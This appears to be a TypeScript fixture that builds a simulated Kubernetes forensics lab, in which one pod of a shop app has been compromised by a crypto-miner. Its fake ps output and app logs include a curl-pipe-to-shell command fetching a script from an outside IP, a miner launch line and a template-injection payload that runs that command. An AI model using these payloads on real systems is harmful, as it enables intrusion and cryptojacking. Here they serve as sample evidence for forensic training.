/**
 * The demo cluster: an EKS-like cluster whose nodes are the AWS lab's demo instances, with a
 * compromised pod (a crypto-miner dropped through the `app` container, which crashed and
 * restarted), an init container, a minimal sidecar image without `ps`, and events.
 */
import type { LabClusterSpec, LabContainerSpec, LabNodeSpec, LabPodSpec } from './objects.js';
import type { KubernetesObject } from '@kubernetes/client-node';
import { boundAdmissionPolicies } from './admission.js';
import { COLLECTORS_GROUP, loadRbacManifests, roleRules, subjectFromManifests } from './rbac.js';
import type { LabSubject } from './rbac.js';

/**
 * The instance a node runs on: structurally the AWS lab's `LabInstance`, or a GCE instance given
 * with its node name and `gce://PROJECT/ZONE/INSTANCE` provider id (a GKE node is named after it).
 */
export interface DemoNodeInstance {
  id: string;
  availabilityZone: string;
  /** Default: an EKS-style `ip-10-0-1-N.ec2.internal`. */
  nodeName?: string;
  /** Default: `aws:///ZONE/ID`. */
  providerID?: string;
}

export interface K8sDemoScenario {
  cluster: LabClusterSpec;
  /** Bearer token of the collector (RBAC as shipped in policies/kubernetes/). */
  collectorToken: string;
  /** Bearer token of a collector whose binding lacks `pods/exec`. */
  noExecToken: string;
  namespace: string;
  /** The compromised pod, its node, and the node's instance id. */
  compromisedPod: string;
  compromisedNode: string;
  compromisedInstanceId: string;
  /** Label of the pods the demo selects with `--select`. */
  appLabel: string;
  /** How the collector token's subject is bound (for an EKS subject of the same cluster). */
  binding: CollectorBinding;
}

export const FORENSICS_NAMESPACE = 'cloud-custody';

/** Whether a scenario's cluster has the optional admission policies installed unless told otherwise. */
export const ENFORCE_ADMISSION_BY_DEFAULT = true;

export interface CollectorBinding {
  /** Namespaces the namespaced roles are bound in (the manifests' `NAMESPACE`). */
  namespaces: readonly string[];
  /** Nodes the just-in-time checkpoint and cordon roles are created and bound for (`NODE`). */
  nodes: readonly string[];
  /** The manifests applied. Default: the shipped ones, read from policies/kubernetes/. */
  manifests?: readonly KubernetesObject[];
}

/**
 * A subject in the group the shipped bindings name, holding what the shipped manifests grant it
 * once applied as they say: read from the YAML each time, so the lab enforces the files.
 */
export function collectorSubject(user: string, binding: CollectorBinding): LabSubject {
  return subjectFromManifests(binding.manifests ?? loadRbacManifests(), { user, groups: [COLLECTORS_GROUP], namespaces: binding.namespaces, jitNodes: binding.nodes });
}

const PROC_NET_TCP =
  '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n' +
  '   0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 41811 1 0000000000000000 100 0 0 10 0\n' +
  // 10.0.1.57:48122 -> 45.9.148.125:3333 (a mining pool port), established
  '   1: 3901000A:BBFA 7D94092D:0D05 01 00000000:00000000 02:000A5F2B 00000000     0        0 44102 2 0000000000000000 20 4 30 10 -1\n';

const PS_OUTPUT =
  'PID   USER     TIME  COMMAND\n' +
  '    1 root      0:02 node /app/server.js\n' +
  '   38 root      9:41 /tmp/.x/kdevtmpfsi -o 45.9.148.125:3333 --donate-level 0\n' +
  '   52 root      0:00 sh -c curl -s http://45.9.148.125/x.sh | sh\n';

function appContainer(): LabContainerSpec {
  return {
    name: 'app',
    image: 'registry.example.com/shop/web:1.8.2',
    env: { NODE_ENV: 'production', DATABASE_URL: 'postgres://shop:s3cr3t-lab-only@db:5432/shop' },
    files: {
      '/proc/net/tcp': PROC_NET_TCP,
      '/proc/net/tcp6': '  sl  local_address                         remote_address                        st\n',
      '/proc/net/udp': '  sl  local_address rem_address   st\n',
      '/proc/net/udp6': '  sl  local_address                         remote_address                        st\n',
      '/proc/net/unix': 'Num       RefCount Protocol Flags    Type St Inode Path\n',
      '/proc/1/environ': 'NODE_ENV=production\u0000DATABASE_URL=postgres://shop:s3cr3t-lab-only@db:5432/shop\u0000',
      '/proc/mounts': 'overlay / overlay rw,relatime,lowerdir=/var/lib/containerd/…,upperdir=…,workdir=… 0 0\nproc /proc proc rw,nosuid,nodev,noexec,relatime 0 0\n',
      '/proc/1/cmdline': 'node\u0000/app/server.js\u0000',
    },
    outputs: {
      'ps -o pid,ppid,user,etime,args': { stdout: PS_OUTPUT },
      'ls -la /proc/1/fd': { stdout: 'lrwx------ 1 root root 64 Nov 26 03:41 0 -> /dev/null\nlrwx------ 1 root root 64 Nov 26 03:41 21 -> socket:[44102]\n' },
    },
    log: {
      lines: [
        { time: '2026-11-26T03:41:08.102334511Z', text: 'server listening on :8080' },
        { time: '2026-11-26T03:44:51.771020933Z', text: 'POST /api/upload 200 file=../../tmp/.x/kdevtmpfsi' },
        { time: '2026-11-26T03:45:02.004189214Z', text: 'GET /api/items/42 200' },
      ],
    },
    previousLog: {
      lines: [
        { time: '2026-11-26T02:58:21.311873000Z', text: 'server listening on :8080' },
        { time: '2026-11-26T03:40:58.402110071Z', text: 'POST /api/render 500 template="{{constructor.constructor(\'return process\')().mainModule.require(\'child_process\').execSync(\'curl -s http://45.9.148.125/x.sh | sh\')}}"' },
        { time: '2026-11-26T03:41:05.000100000Z', text: 'FATAL JavaScript heap out of memory' },
      ],
    },
  };
}

/**
 * The demo cluster, with nodes on the given AWS lab instances (the first hosts the compromised
 * pod). Pass the AWS lab's demo instances so the node follow-up snapshots a real lab instance.
 *
 * @example
 * const k8s = k8sDemoScenario({ instances: [{ id: 'i-0abc…', availabilityZone: 'us-east-1a' }] });
 * const lab = await startKubernetesLab({ cluster: k8s.cluster });
 */
export function k8sDemoScenario(input: {
  instances: readonly DemoNodeInstance[];
  namespace?: string;
  manifests?: readonly KubernetesObject[];
  /** Install the manifests' optional ValidatingAdmissionPolicies, which the lab then enforces. Default: ENFORCE_ADMISSION_BY_DEFAULT. */
  admission?: boolean;
}): K8sDemoScenario {
  const namespace = input.namespace ?? 'shop';
  if (input.instances.length === 0) throw new Error('k8sDemoScenario needs at least one instance for the node');
  const nodes: LabNodeSpec[] = input.instances.map((instance, i) => ({
    name: instance.nodeName ?? `ip-10-0-1-${23 + i}.ec2.internal`,
    providerID: instance.providerID ?? `aws:///${instance.availabilityZone}/${instance.id}`,
    zone: instance.availabilityZone,
    checkpoint: 500,
  }));
  const compromisedNode = nodes[0]!.name;
  const compromisedPod = 'web-7d9f8b6c5d-x2x7k';
  const pods: LabPodSpec[] = [
    {
      namespace,
      name: compromisedPod,
      labels: { app: 'web', 'pod-template-hash': '7d9f8b6c5d' },
      nodeName: compromisedNode,
      serviceAccountName: 'web',
      owner: { kind: 'ReplicaSet', name: 'web-7d9f8b6c5d' },
      containers: [
        { name: 'migrate', image: 'registry.example.com/shop/migrate:1.8.2', init: true, log: { lines: [{ time: '2026-11-26T02:58:15.000000000Z', text: 'applied 3 migrations' }] } },
        appContainer(),
        {
          name: 'log-shipper',
          image: 'fluent/fluent-bit:3.1.9',
          // A distroless-style image: no shell, no ps, no ls; only cat is there.
          binaries: ['cat'],
          files: { '/proc/net/tcp': PROC_NET_TCP.split('\n').slice(0, 2).join('\n') + '\n' },
          log: { lines: [{ time: '2026-11-26T02:58:22.000000000Z', text: '[info] [output:forward] connected' }] },
        },
      ],
    },
    {
      namespace,
      name: 'web-7d9f8b6c5d-q8m4z',
      labels: { app: 'web', 'pod-template-hash': '7d9f8b6c5d' },
      nodeName: nodes[nodes.length > 1 ? 1 : 0]!.name,
      serviceAccountName: 'web',
      owner: { kind: 'ReplicaSet', name: 'web-7d9f8b6c5d' },
      containers: [{ name: 'app', image: 'registry.example.com/shop/web:1.8.2', log: { lines: [{ time: '2026-11-26T02:58:30.000000000Z', text: 'server listening on :8080' }] } }],
    },
  ];
  const manifests = input.manifests ?? loadRbacManifests();
  // Bound as the manifests say: in the workload namespace, the just-in-time roles for the node
  // of the pod under investigation.
  const binding: CollectorBinding = { namespaces: [namespace], nodes: [compromisedNode], manifests };
  const collectorToken = 'lab-k8s-collector-token';
  const noExecToken = 'lab-k8s-reader-without-exec-token';
  return {
    namespace,
    compromisedPod,
    compromisedNode,
    compromisedInstanceId: input.instances[0]!.id,
    appLabel: 'app=web',
    binding,
    collectorToken,
    noExecToken,
    cluster: {
      nodes,
      pods,
      workloads: [
        { kind: 'Deployment', namespace, name: 'web', labels: { app: 'web' } },
        { kind: 'ReplicaSet', namespace, name: 'web-7d9f8b6c5d', labels: { app: 'web' }, owner: { kind: 'Deployment', name: 'web' } },
      ],
      serviceAccounts: [{ namespace, name: 'web', annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::222222222222:role/shop-web' } }],
      events: [
        { namespace, involvedKind: 'Pod', involvedName: compromisedPod, reason: 'Scheduled', message: `Successfully assigned ${namespace}/${compromisedPod} to ${compromisedNode}`, time: '2026-11-26T02:58:11Z' },
        { namespace, involvedKind: 'Pod', involvedName: compromisedPod, reason: 'BackOff', type: 'Warning', message: 'Back-off restarting failed container app in pod', time: '2026-11-26T03:41:06Z' },
        { namespace, involvedKind: 'Pod', involvedName: compromisedPod, reason: 'Started', message: 'Started container app', time: '2026-11-26T03:41:07Z', count: 2 },
        { namespace, involvedKind: 'Pod', involvedName: 'web-7d9f8b6c5d-q8m4z', reason: 'Started', message: 'Started container app', time: '2026-11-26T02:58:30Z' },
      ],
      ...((input.admission ?? ENFORCE_ADMISSION_BY_DEFAULT) ? { admission: boundAdmissionPolicies(manifests) } : {}),
      subjects: {
        [collectorToken]: collectorSubject('cloud-custody-collector', binding),
        // A reader bound to the shipped collector role without its pods/exec rule, and the node reader.
        [noExecToken]: {
          user: 'cloud-custody-reader',
          rules: [...roleRules(manifests, 'cloud-custody-collector', [namespace]).filter((r) => !r.resources.includes('pods/exec')), ...roleRules(manifests, 'cloud-custody-node-reader')],
        },
      },
    },
  };
}
